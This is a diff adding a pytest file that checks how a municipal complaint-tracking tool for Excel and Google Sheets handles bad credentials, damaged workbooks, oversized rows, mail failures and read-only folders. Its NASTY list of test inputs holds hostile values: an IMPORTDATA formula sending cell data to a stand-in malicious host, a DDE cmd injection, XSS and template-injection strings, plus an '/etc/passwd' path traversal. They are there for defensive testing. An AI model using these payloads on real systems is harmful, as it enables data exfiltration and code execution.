@@ -1,0 +1,429 @@
+"""Bad input, from credentials.json to single cells: it is said what is wrong and what to do, and nothing is lost."""
+
+from __future__ import annotations
+
+import importlib
+import json
+import os
+import re
+import shutil
+import socket
+from collections.abc import Iterator
+from datetime import datetime, timedelta
+from email import message_from_bytes, policy
+from html.parser import HTMLParser
+from pathlib import Path
+from tempfile import TemporaryDirectory
+from typing import Any
+
+import pytest
+import trustme
+from openpyxl import load_workbook
+
+from automation.cases.cells import Value
+from automation.cases.columns import COORDINATOR, VOLUNTEER, Column
+from automation.cli.arguments import COMMANDS
+from automation.cli.compose import jakarta_now
+from automation.cli.logs import start_log
+from automation.config.tables import HEADINGS, JOURNAL, MAILS, REGISTER, REPAIRS, SETTINGS, SOURCES
+from tests.google_city import City
+from tests.operator_desk import BENDA, TAB, Desk
+from tests.sheets_server.fixtures import Google
+from tests.sheets_server.model import EMPTY
+from tests.sheets_server.people import _with
+from tests.smtp_server import HOST, PASSWORD, USERNAME, smtp_server
+from tests.xlsx_person import Editor
+
+NASTY = (
+    '=IMPORTDATA("https://jahat.example/?"&A2)',
+    '=HYPERLINK("https://jahat.example","klik")',
+    "+62 812 0000 1021",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+    "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "{{ 7 * 7 }} {% raise %} {baris} %s",
+    "🙏🏽👨‍👩‍👧 ujian",
+    "\u202eقانون\u2069 \u200f",
+    "a\u0007b\u001b[2Jc\u2028d",
+    "x\u007fy\ufffez",
+    "‘’“”–•\u00a0\u3000",
+)
+
+COMPLAINT: dict[str, Value] = {
+    Column.RECEIVED: f"{jakarta_now():%d/%m/%Y}",
+    Column.CHANNEL: "Hotline",
+    Column.NAME: "Ibu Yati",
+    Column.PHONE: "081200001021",
+    Column.ADDRESS: "Gg. Mawar no 4",
+    Column.CATEGORY: "Jalan & Drainase",
+    Column.DESCRIPTION: "Got mampet di depan musala, air naik ke jalan",
+}
+
+
+@pytest.fixture
+def desk(tmp_path: Path) -> Desk:
+    """A city with one good complaint, which must come through whatever else is wrong."""
+    desk = Desk(tmp_path / "kota")
+    desk.type({})
+    return desk
+
+
+def fails(desk: Desk, capsys: pytest.CaptureFixture[str], *arguments: str) -> str:
+    """What a command says that can't begin."""
+    capsys.readouterr()
+    assert desk.run(*arguments) == 2
+    captured = capsys.readouterr()
+    assert captured.out == ""
+    return captured.err
+
+
+# credentials.json ---------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("content", "words"),
+    [
+        ('{"kendali": "Kendali.xlsx",}', ["baris 1, kolom", "koma sesudah isian terakhir"]),
+        ("{“kendali”: “Kendali.xlsx”}", ["tanda kutip melengkung"]),
+        ("", ["baris 1, kolom 1"]),
+        ("[]", ["dibuka dengan {"]),
+        ('{"kendali": ""}', ['"kendali" harus berisi']),
+        ('{"kendalli": "Kendali.xlsx"}', ['"kendalli" tidak dikenal. Maksudnya "kendali"?', '"kendali" harus berisi']),
+        (b"\xff\xfe\x00", ["bukan berkas teks UTF-8"]),
+        ('{"kendali": ".", "smtp": {"host": "x"}}', ["smtp.port, smtp.username"]),
+    ],
+)
+def test_credentials_that_can_not_be_read_are_explained(
+    desk: Desk, capsys: pytest.CaptureFixture[str], content: str | bytes, words: list[str]
+) -> None:
+    desk.credentials.write_bytes(content if isinstance(content, bytes) else content.encode())
+    said = fails(desk, capsys, "sync")
+    assert all(part in said for part in words), said
+
+
+def test_a_key_dropped_in_as_credentials_is_told_how_to_be_wrapped(
+    desk: Desk, capsys: pytest.CaptureFixture[str]
+) -> None:
+    key = {"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\nrahasia\n", "client_email": "r@x.y"}
+    desk.credentials.write_text(json.dumps(key), "utf-8")
+    said = fails(desk, capsys, "sync")
+    assert "Kunci itu harus dibungkus" in said and '"google": "kunci-google.json"' in said
+    assert "rahasia" not in said
+
+
+# Kendali ------------------------------------------------------------------------------------------------------------
+
+
+def test_a_kendali_without_a_tab_is_said_and_setup_puts_it_back(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
+    Editor(desk.folder / "Kendali.xlsx").edit(lambda book: book.remove(book[SETTINGS]))
+    said = fails(desk, capsys, "sync")
+    assert "tab Pengaturan tidak ada. Jalankan setup" in said
+    assert desk.column(Column.TICKET) == [None]
+    assert desk.run("setup") == 0
+    assert desk.run("sync") == 0
+    assert desk.column(Column.TICKET)[0].startswith("RR-")
+
+
+def test_tabs_of_the_robot_that_somebody_deleted_come_back_by_themselves(desk: Desk) -> None:
+    desk.run("sync")
+    before = desk.rows("Kendali", REGISTER)
+    path = desk.folder / "Kendali.xlsx"
+    book = load_workbook(path)
+    for tab in (REGISTER, REPAIRS, JOURNAL, MAILS):
+        book.remove(book[tab])
+    book.save(path)
+    assert desk.run("sync") == 0
+    assert desk.rows("Kendali", REGISTER) == before
+    assert len(desk.rows("Kendali", JOURNAL)) >= 2
+
+
+@pytest.mark.parametrize(
+    ("kendali", "words"),
+    [
+        (".", "menunjuk sebuah folder"),
+        ("Kendali.ods", "bukan berkas .xlsx"),
+        ("Kendali", "bukan berkas .xlsx"),
+        ("kendalli.xlsx", "Kendali tidak ditemukan"),
+        ("https://docs.google.com/spreadsheets/d/1AbCdEfGhIjKlMnOpQrStUvWxYz/edit", "belum berisi kunci Google"),
+        ("https://example.org/x", "belum berisi kunci Google"),
+    ],
+)
+def test_a_kendali_that_can_not_be_one_is_said_before_anything_is_done(
+    desk: Desk, capsys: pytest.CaptureFixture[str], kendali: str, words: str
+) -> None:
+    shutil.copy(desk.folder / "Kendali.xlsx", desk.folder / "Kendali.ods")
+    desk.credentials.write_text(json.dumps({"kendali": kendali}), "utf-8")
+    for arguments in (["sync"], ["digest", "harian"], ["run"], ["sync", "--dry-run"]):
+        assert words in fails(desk, capsys, *arguments)
+    assert desk.column(Column.TICKET) == [None]
+
+
+def test_a_damaged_kendali_is_said_and_stays_as_it_is(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
+    path = desk.folder / "Kendali.xlsx"
+    path.write_bytes(path.read_bytes()[:2000])
+    before = path.read_bytes()
+    capsys.readouterr()
+    assert desk.run("sync") == 1
+    assert "rusak, belum selesai disalin" in capsys.readouterr().err
+    assert path.read_bytes() == before
+    assert desk.column(Column.TICKET) == [None]
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "entahlah",
+        "https://docs.google.com/spreadsheets/d/1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789/edit",
+        "https://[jahat",
+        "//server/bagian/berkas.xlsx",
+        "C:\\Users\\Rina\\Laporan.xlsx",
+        "a" * 200,
+        "Kendali.xlsx/apa.xlsx",
+        "=A1",
+        "../../../etc/passwd",
+    ],
+)
+def test_a_nonsense_link_in_sumber_stops_only_its_own_row(
+    desk: Desk, capsys: pytest.CaptureFixture[str], link: str
+) -> None:
+    desk.write("Kendali", SOURCES, 2, ["Kecamatan Larangan", link])
+    capsys.readouterr()
+    assert desk.run("sync") == 1
+    said = capsys.readouterr().out
+    assert "1 spreadsheet tidak bisa dibaca" in said and "Kecamatan Larangan" in said
+    assert "kesalahan di program" not in said
+    assert desk.column(Column.TICKET)[0].startswith("RR-")
+    assert [row[4] == "Baik" for row in desk.rows("Kendali", SOURCES)[1:]] == [True, False]
+
+
+# Cells --------------------------------------------------------------------------------------------------------------
+
+
+class Page(HTMLParser):
+    """The elements and links of a mail."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.elements: set[str] = set()
+        self.links: list[str] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.add(tag)
+        self.links += [value or "" for name, value in attrs if name in {"href", "src"}]
+
+
+def assert_harmless(mail: bytes) -> None:
+    """Nothing of what was typed became markup, a link, or a formula of a template."""
+    message = message_from_bytes(mail, policy=policy.default)
+    html = message.get_body(("html",))
+    assert html is not None
+    page = Page(html.get_content())
+    assert not page.elements & {"script", "img", "iframe", "form", "object"}
+    assert not [link for link in page.links if "jahat" in link]
+    assert "jahat" not in str(message["Subject"])
+    for part in message.walk():
+        if not part.is_multipart():
+            assert part.get_content() != "49" and "\x1b" not in part.get_content()
+
+
+def test_whatever_stands_in_a_cell_of_a_local_workbook_is_text_and_stays_where_it_is(desk: Desk) -> None:
+    columns = [column for column in (*VOLUNTEER, *COORDINATOR, Column.TICKET) if column is not Column.KELURAHAN]
+    # What XML does not allow stands in a file as its code.
+    nasty = [re.sub("[\x00-\x08\x0b-\x1f\ufffe]", lambda mark: f"_x{ord(mark[0]):04X}_", text) for text in NASTY]
+    typed = [(column, text) for text in nasty for column in columns]
+    desk.type(*({Column.PHONE: f"0812{n:08}", column: text} for n, (column, text) in enumerate(typed)))
+    path = desk.folder / f"{BENDA}.xlsx"
+    book = load_workbook(path)
+    book[TAB].cell(2, 20).value = "=IMPORTDATA(A1)"  # a formula of people's own, beside the table
+    book.save(path)
+    people = [row[5:] for row in desk.rows(BENDA, TAB)]
+    assert desk.run("sync") == 0
+    assert [row[5:] for row in desk.rows(BENDA, TAB)] == people
+    rows = desk.rows(BENDA, TAB)
+    assert all(row[0] or row[1] for row in rows[1:]), "each has a ticket or is told why not"
+    assert sum(bool(row[0]) for row in rows[1:]) > len(rows) / 3
+    assert Editor(path).formulas(TAB) == [(1, 19)]
+    assert not Editor(path).formulas(JOURNAL)
+    for tab in HEADINGS:
+        assert not Editor(desk.folder / "Kendali.xlsx").formulas(tab)
+    assert desk.run("digest", "harian") == 0
+    (mail,) = (desk.folder / "outbox").glob("*.eml")
+    assert_harmless(mail.read_bytes())
+    before = path.read_bytes()
+    assert desk.run("sync") == 0
+    assert path.read_bytes() == before, "nothing is left to do"
+
+
+def test_whatever_stands_in_a_cell_of_a_google_spreadsheet_is_text_and_stays_where_it_is(
+    google: Google, tmp_path: Path
+) -> None:
+    city = City(google, tmp_path, "Benda")
+    assert city.set_up() == 0
+    city.subscribe("ratna@fraksi.example")
+    person = city.spreadsheets["Benda"]
+    columns = [Column.NAME, Column.ADDRESS, Column.DESCRIPTION, Column.CATEGORY, Column.PHONE, Column.STATUS]
+    typed = [(column, text) for text in NASTY for column in columns]
+    for number, (column, text) in enumerate(typed):
+        city.type("Benda", TAB, f"#{number}", {**COMPLAINT, Column.PHONE: f"0812{number:08}", column: text})
+    head = person.values(TAB)[0]
+    person.formula(TAB, 1, head.index(Column.DESCRIPTION), '=IMPORTDATA("https://jahat.example")', "got mampet sekali")
+    mine = [row[5:] for row in person.values(TAB)]
+    assert city.run("sync") == 0
+    assert [row[5 : len(was) + 5] for row, was in zip(person.values(TAB), mine, strict=True)] == mine
+    assert person.formulas(TAB) == [(1, head.index(Column.DESCRIPTION))]
+    assert person.formulas(JOURNAL) == []
+    assert all(not city.kendali.formulas(tab) for tab in HEADINGS)
+    rows = person.values(TAB)[1:]
+    assert all(row[0] or row[1] for row in rows)
+    assert city.run("digest", "harian", "--preview") == 0
+    (mail,) = (tmp_path / "outbox").glob("*/*.eml")
+    assert_harmless(mail.read_bytes())
+    city.server.requests.clear()
+    assert city.run("sync") == 0
+    assert city.server.count("batchUpdate") == 0, "nothing is left to do"
+
+
+def test_the_longest_cells_there_can_be_are_read_and_only_shortened_in_mails(
+    desk: Desk, google: Google, tmp_path: Path
+) -> None:
+    longest = ("jalan rusak parah " * 2000)[:32767]
+    desk.type({Column.DESCRIPTION: longest, Column.ADDRESS: longest, Column.NAME: longest})
+    assert desk.run("sync") == 0
+    assert all(ticket.startswith("RR-") for ticket in desk.column(Column.TICKET))
+    assert desk.column(Column.DESCRIPTION)[1] == longest
+    assert max(len(str(value)) for row in desk.rows("Kendali", REGISTER) for value in row) < 1000
+    city = City(google, tmp_path, "Benda")
+    city.set_up()
+    longest = ("jalan rusak parah " * 3000)[:50000]
+    city.type("Benda", TAB, "#1", {**COMPLAINT, Column.DESCRIPTION: longest, Column.ADDRESS: longest})
+    assert city.run("sync") == 0
+    assert city.tickets("Benda", TAB)["#1"].startswith("RR-")
+    assert longest in city.spreadsheets["Benda"].values(TAB)[1]
+
+
+# Sizes --------------------------------------------------------------------------------------------------------------
+
+
+def test_a_tab_of_hundreds_of_rows_is_taken_in_one_cycle(desk: Desk) -> None:
+    desk.type(*({Column.NAME: f"Warga {n}", Column.PHONE: f"0812{n:08}"} for n in range(500)))
+    assert desk.run("sync") == 0
+    tickets = desk.column(Column.TICKET)
+    assert len(set(tickets)) == len(tickets) == 501
+    assert len(desk.rows("Kendali", REGISTER)) == 502
+
+
+def test_more_rows_than_one_request_takes_reach_google_in_one_cycle(google: Google, tmp_path: Path) -> None:
+    city = City(google, tmp_path, "Benda")
+    city.set_up()
+    person = city.spreadsheets["Benda"]
+    head = person.values(TAB)[0]
+    sheet = person.sheet(TAB)
+    for row in range(1, 1101):
+        cells: dict[Any, Value] = {**COMPLAINT, Column.NAME: f"Warga {row}", Column.PHONE: f"0812{row:08}"}
+        sheet.put_row(row, 5, tuple(_with(EMPTY, cells.get(heading)) for heading in head[5:]))
+    sheet.grid["rowCount"] = max(sheet.row_count, 1200)
+    city.server.requests.clear()
+    assert city.run("sync") == 0
+    assert city.requests(person)["batchUpdate"] == 2
+    tickets = [row[0] for row in person.values(TAB)[1:]]
+    assert len(set(tickets)) == 1100 and None not in tickets
+    assert len(city.kendali.values(REGISTER)) == 1101
+
+
+# Mail ---------------------------------------------------------------------------------------------------------------
+
+
+def test_a_wrong_password_is_said_once_and_the_mail_goes_out_when_it_is_mended(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    authority = trustme.CA()
+    authority.cert_pem.write_to_path(str(tmp_path / "ca.pem"))
+    monkeypatch.setenv("SSL_CERT_FILE", str(tmp_path / "ca.pem"))
+    with smtp_server(authority) as server:
+        smtp = {"host": HOST, "port": server.port, "username": USERNAME, "password": "s4lah", "from": USERNAME}
+        desk = Desk(tmp_path / "kota", smtp=smtp)
+        desk.write("Kendali", "Penerima", 2, ["Budi", "budi@fraksi.example", "Staf", "Kota", "harian", "Ya", "Ya"])
+        desk.type({})
+        desk.run("sync")
+        capsys.readouterr()
+        assert desk.run("digest", "harian") == 1
+        said = capsys.readouterr().out
+        assert "2 kabar belum terkirim:" in said
+        assert said.count("\n") == 2, "the reason is said once, not for each mail"
+        assert server.behaviour.connections == 1
+        assert "s4lah" not in said + desk.log()
+        states = [str(row[4]).partition(":")[0] for row in desk.rows("Kendali", MAILS)[1:]]
+        assert states == ["diklaim", "diklaim", "gagal sementara", "gagal sementara"]
+        content = json.loads(desk.credentials.read_text("utf-8"))
+        content["smtp"]["password"] = PASSWORD
+        desk.credentials.write_text(json.dumps(content), "utf-8")
+        for row in (1, 2, 3, 4):  # an hour goes by
+            moment = datetime.fromisoformat(desk.rows("Kendali", MAILS)[row][0]) - timedelta(hours=1)
+            desk.write("Kendali", MAILS, row, [moment.isoformat()])
+        assert desk.run("digest", "harian") == 0
+        assert sorted(str(mail["To"]) for mail in server.behaviour.messages()) == [
+            "Budi <budi@fraksi.example>",
+            "Ratna <ratna@fraksi.example>",
+        ]
+
+
+def test_a_mail_server_that_is_not_there_is_said_by_its_name(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    with socket.socket() as probe:
+        probe.bind((HOST, 0))
+        port = probe.getsockname()[1]
+    smtp = {"host": HOST, "port": port, "username": USERNAME, "password": PASSWORD, "from": USERNAME}
+    desk = Desk(tmp_path / "kota", smtp=smtp)
+    desk.type({})
+    desk.run("sync")
+    capsys.readouterr()
+    assert desk.run("digest", "harian") == 1
+    said = capsys.readouterr().out
+    assert HOST in said and str(port) in said
+    assert desk.column(Column.TICKET)[0].startswith("RR-")
+
+
+# Folders ------------------------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def closed_folder() -> Iterator[Desk]:
+    """A city in a folder that may be read and not written. The administrator may write anywhere, and becomes nobody."""
+    with TemporaryDirectory() as folder:  # pytest's own are closed to others
+        desk = Desk(Path(folder) / "kota")
+        desk.type({})
+        assert desk.run("sync") == 0
+        assert desk.run("digest", "harian", "--preview") == 0
+        desk.type({Column.NAME: "Pak Amir", Column.PHONE: "081200001022"})
+        for lock in desk.folder.glob(".*.kunci"):
+            lock.unlink()
+        desk.folder.chmod(0o555)
+        Path(folder).chmod(0o755)
+        for name in COMMANDS:
+            importlib.import_module(f"automation.cli.{name}")  # what is loaded late may lie where nobody can read
+        administrator = os.geteuid() == 0
+        if administrator:
+            os.seteuid(65534)
+        yield desk
+        if administrator:
+            os.seteuid(0)
+        desk.folder.chmod(0o755)
+        start_log(Path(os.devnull))  # let go of the log before the folder goes
+
+
+@pytest.mark.skipif(os.name == "nt", reason="Windows keeps permissions otherwise")
+def test_a_folder_that_may_not_be_written_is_said_and_nothing_is_half_done(
+    closed_folder: Desk, capsys: pytest.CaptureFixture[str]
+) -> None:
+    desk = closed_folder
+    before = {path.name: path.read_bytes() for path in desk.folder.glob("*.xlsx")}
+    capsys.readouterr()
+    for command, code in (("sync", 1), ("digest harian", 1), ("run", 2), (f"demo --dir {desk.folder}/demo", 2)):
+        assert desk.run(*command.split()) == code, command
+        captured = capsys.readouterr()
+        assert "Permission denied" in captured.out + captured.err and "izin" in captured.out + captured.err
+        assert "kesalahan di program" not in captured.out + captured.err
+    assert {path.name: path.read_bytes() for path in desk.folder.glob("*.xlsx")} == before
